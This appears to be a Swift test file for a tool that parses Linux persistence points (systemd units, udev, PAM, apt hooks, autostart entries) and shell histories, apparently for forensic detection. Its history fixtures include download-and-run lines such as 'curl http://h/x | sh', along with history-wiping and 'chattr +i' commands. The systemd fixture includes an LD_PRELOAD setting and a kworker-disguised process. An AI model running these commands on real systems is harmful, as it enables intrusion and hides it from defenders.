import Formats
import Model
import Testing

@Suite struct `A unit of systemd` {
    private func read(_ text: String) -> Parsed<SystemdUnit> { SystemdUnitFormat.parse(Array(text.utf8).span, path: "/etc/x.service") }

    private static let service = """
        # comment
        [Unit]
        Description=A \\
        ; comment between
          B
        [Service]
        User=bob
        Environment="A=b c" LD_PRELOAD=/x.so
        EnvironmentFile=-/etc/default/x
        ExecStartPre=-/bin/mkdir -p /run/x ; /bin/true
        ExecStart=@/opt/x kworker/0:1 -d
        ExecStop=+!/bin/kill $MAINPID
        [Install]
        WantedBy=multi-user.target default.target
        """

    @Test func `gives its settings with their lines`() {
        let unit = read(Self.service).value
        #expect(unit.value("Description")?.value == "A    B")
        #expect(unit.value("Description")?.place == Place("/etc/x.service", line: 3))
        #expect(unit.user == "bob")
        #expect(unit.environment.map(\.assignment) == ["A=b c", "LD_PRELOAD=/x.so"])
        #expect(unit.environmentFiles.map(\.path) == ["/etc/default/x"])
        #expect(unit.wantedBy == ["multi-user.target", "default.target"])
    }

    @Test func `gives its commands without their signs`() {
        let commands = read(Self.service).value.commands
        #expect(commands.map(\.text) == ["/bin/mkdir -p /run/x", "/bin/true", "/opt/x -d", "/bin/kill $MAINPID"])
        #expect(commands.map(\.key) == ["ExecStartPre", "ExecStartPre", "ExecStart", "ExecStop"])
        #expect(commands.map(\.ignoresFailure) == [true, false, false, false])
        #expect(commands[2].shownName == "kworker/0:1")
        #expect(commands[3].hasFullRights)
        #expect(commands[2].place.line == 11)
    }

    @Test func `loses earlier values to an empty one in a drop-in`() {
        let unit = read("[Service]\nExecStart=/a\n").value
        let dropIn = SystemdUnitFormat.parse(Array("[Service]\nExecStart=\nExecStart=/b\n".utf8).span, path: "/etc/d.conf").value
        #expect(unit.merging(dropIn: dropIn).commands.map(\.text) == ["/b"])
        #expect(unit.merging(dropIn: dropIn).commands.first?.place == Place("/etc/d.conf", line: 3))
    }

    @Test func `tells when a timer runs and what it starts`() {
        let unit = read("[Timer]\nOnBootSec=5min\nOnCalendar=*:0/5\nUnit=x.service\n").value
        #expect(unit.triggers.map(\.key) == ["OnCalendar", "OnBootSec"])
        #expect(unit.startedUnit == "x.service")
    }

    @Test(arguments: ["ExecStart=/a", "[Service", "[Service]\nnonsense"])
    func `names what makes no sense in it`(text: String) {
        #expect(read(text).problems.count == 1)
    }
}

@Suite struct `Other ways of starting something` {
    private func bytes(_ text: String) -> [UInt8] { Array(text.utf8) }

    @Test func `are read from inittab`() {
        let parsed = InittabFormat.parse(bytes("# x\nid:2:initdefault:\nx:2345:respawn:+/opt/x -a:b\nbroken:line\n").span)
        #expect(parsed.value.map(\.process) == ["", "/opt/x -a:b"])
        #expect(parsed.value.map(\.line) == [2, 3])
        #expect(parsed.problems.map(\.line) == [4])
    }

    @Test func `are read from a job of Upstart`() {
        let job = UpstartFormat.parse(
            bytes(
                "start on runlevel [2345]\nenv A=\"b c\"\nsetuid bob\npre-start exec /bin/a -x\nscript\n  . /etc/x\n  exec /opt/x\nend script\n"
            ).span
        ).value
        #expect(job.commands.map(\.phase) == ["pre-start", "main"])
        #expect(job.commands.map(\.text) == ["/bin/a -x", "  . /etc/x\n  exec /opt/x\n"])
        #expect(job.commands.map(\.line) == [4, 6])
        #expect(job.startOn == "runlevel [2345]" && job.environment == ["A=b c"] && job.user == "bob")
        #expect(UpstartFormat.parse(bytes("script\nrm\n").span).problems.count == 1)
    }

    @Test func `are read from an init script`() {
        let script = InitScriptFormat.parse(
            bytes(
                "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: x y\n# Short-Description: A thing\n### END INIT INFO\nDAEMON=/opt/x\nNAME=x\n"
            ).span
        ).value
        #expect(script.provides == ["x", "y"] && script.shortDescription == "A thing")
        #expect(script.programs == [InitScript.Program(variable: "DAEMON", path: "/opt/x", line: 6)])
    }

    @Test func `are read from rules of udev`() {
        let rules = bytes(
            "# c\nACTION==\"add\", RUN+=\"/bin/sh -c 'x'\", ENV{A}=\"b\"\nSUBSYSTEM==\"net\", \\\n  PROGRAM=\"/opt/p %k\", RESULT==\"1\", ENV{SYSTEMD_WANTS}+=\"x.service\"\nIMPORT{program}=\"/opt/i\", IMPORT{file}=\"/f\"\n"
        )
        let commands = UdevRulesFormat.parse(rules.span).value
        #expect(commands.map(\.kind) == [.run, .program, .unit, .importProgram])
        #expect(commands.map(\.value) == ["/bin/sh -c 'x'", "/opt/p %k", "x.service", "/opt/i"])
        #expect(commands.map(\.line) == [2, 3, 3, 5])
        #expect(UdevRulesFormat.parse(bytes("RUN=\"/x").span).problems.count == 1)
    }

    @Test func `are read from pam`() {
        let rules = PamFormat.parse(
            bytes(
                "#%PAM-1.0\n@include common-auth\nauth [success=1 default=ignore] pam_unix.so nullok\n-session optional pam_exec.so seteuid /opt/x # c\nauth bad\n"
            ).span)
        #expect(rules.value.map(\.module) == ["common-auth", "pam_unix.so", "pam_exec.so"])
        #expect(rules.value[1].control == "[success=1 default=ignore]" && rules.value[1].arguments == ["nullok"])
        #expect(rules.value[2].mayBeMissing && rules.value[2].arguments == ["seteuid", "/opt/x"])
        #expect(rules.value[0].isInclude && rules.problems.map(\.line) == [5])
        let combined = PamFormat.parse(bytes("sshd auth required pam_deny.so\n").span, namesService: true).value
        #expect(combined.first?.service == "sshd" && combined.first?.module == "pam_deny.so")
    }

    @Test func `are read from an autostart entry`() {
        let entry = DesktopEntryFormat.parse(
            bytes("[Desktop Entry]\nName=X\nExec=/opt/x %U\nTryExec=x\nHidden=true\n[Desktop Action a]\nExec=/opt/y\n").span
        ).value
        #expect(entry.commands.map(\.text) == ["/opt/x %U", "/opt/y"])
        #expect(entry.isHidden && entry.tryExec == "x" && entry.name == "X")
    }

    @Test func `are read from hooks of apt`() {
        let hooks = AptHookFormat.parse(
            bytes(
                """
                // DPkg::Post-Invoke {"no";};
                DPkg::Post-Invoke { "rm -f /x || true"; "second"; };
                APT { Update { Pre-Invoke:: "a \\"b\\""; /* "no" */ }; Periodic { Enable "1"; }; };
                # DPkg::Pre-Invoke "no";
                DPkg::Pre-Install-Pkgs {"/usr/sbin/y";};
                Dpkg::Options { "--force-confdef"; };
                """
            ).span)
        #expect(hooks.value.map(\.key) == ["DPkg::Post-Invoke", "DPkg::Post-Invoke", "APT::Update::Pre-Invoke", "DPkg::Pre-Install-Pkgs"])
        #expect(hooks.value.map(\.command) == ["rm -f /x || true", "second", "a \"b\"", "/usr/sbin/y"])
        #expect(hooks.value.map(\.line) == [2, 2, 3, 5])
    }

    @Test(
        arguments: [
            ("ls\ncurl http://h/x | sh\n", 2, nil, 2),
            ("#1299868200\nls\n#1299868260\nwget http://h/a -O b\n#1299868300\nsh b\n", 3, 100, 6),
            (": 1299868200:0;ls\n: 1299868210:5;unset HISTFILE\n", 2, 10, 2),
            ("- cmd: ls\n  when: 1299868200\n- cmd: history -c\n  when: 1299868201\n", 2, 1, 3),
            ("echo 'open\nchattr +i /usr/sbin\n", 2, nil, 2),
        ] as [(String, Int, Int64?, Int)])
    func `leave their commands in shell histories`(text: String, commands: Int, seconds: Int64?, line: Int) {
        let history = ShellHistoryFormat.parse(bytes(text).span).value
        #expect(history.commands == commands)
        #expect(history.span.map { $0.latest.seconds - $0.earliest.seconds } == seconds)
        #expect(history.traits.map(\.line) == [line])
    }
}
